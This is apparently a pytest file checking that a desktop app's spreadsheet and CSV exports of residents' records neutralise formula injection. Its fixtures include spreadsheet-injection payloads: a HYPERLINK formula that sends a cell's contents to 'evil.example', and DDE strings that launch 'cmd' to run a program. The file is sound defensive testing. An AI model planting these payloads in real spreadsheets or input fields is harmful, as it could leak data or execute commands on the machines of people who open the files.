"""Issue 19 item 1: no export writes text as a live formula.

Every list export (core.excel.export_rows), the national-system export (.xlsx and .csv) and the other
workbooks go through ``core.excel``: text starting with ``= + - @`` (or a tab or line break) is a string
cell in a workbook and starts with an apostrophe in a CSV file.
"""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from desktop_app.core import excel
from desktop_app.core.db import session_scope

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", " =1+1", "＝1+1"]


def formula_cells(path) -> list[str]:
    wb = load_workbook(path)
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    out.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
                elif isinstance(cell.value, str) and excel.looks_like_formula(cell.value) and not cell.quotePrefix:
                    out.append(f"{ws.title}!{cell.coordinate} (not quoted): {cell.value}")
    return out


def test_list_export_writes_text_not_formulas(tmp_path):
    path = tmp_path / "list.xlsx"
    excel.export_rows(path, ["姓名", "备注"], [[p, p] for p in PAYLOADS], title=PAYLOADS[0], subtitle=PAYLOADS[1])
    assert formula_cells(path) == []
    values = [c.value for c in load_workbook(path).active["A"]][3:]
    assert values == PAYLOADS  # the text itself is kept as it was typed


@given(st.text(alphabet=st.sampled_from("=+-@\t\r ＝ABC1(),!|'\""), min_size=1, max_size=12))
def test_any_text_stays_text(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("x") / "l.xlsx"
    excel.export_rows(path, ["备注"], [[text]], title="t")
    assert formula_cells(path) == []
    cell = excel.csv_cell(text)
    assert not excel.looks_like_formula(cell) or cell.startswith("'")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_national_system_export_neutralises_formulas(engine, admin, tmp_path, suffix):
    from desktop_app.certificates import issue_certificate
    from desktop_app.certificates.export import export_volunteer_service_records
    from tests.certificates.helpers import service_record

    with session_scope(engine) as s:
        issue_certificate(s, actor=admin, content=service_record(
            organisation="=HYPERLINK(\"http://evil.example\",\"x\")", service_content="=cmd|' /C calc'!A0"))
        target = tmp_path / f"records{suffix}"
        export_volunteer_service_records(s, actor=admin, target=target)
    if suffix == ".xlsx":
        assert formula_cells(target) == []
    else:
        with open(target, encoding="utf-8-sig", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in cells and "'=cmd|' /C calc'!A0" in cells
        assert not any(excel.looks_like_formula(c) for c in cells)
    assert target.stat().st_mode & 0o077 == 0  # an export of residents' data: this user's only
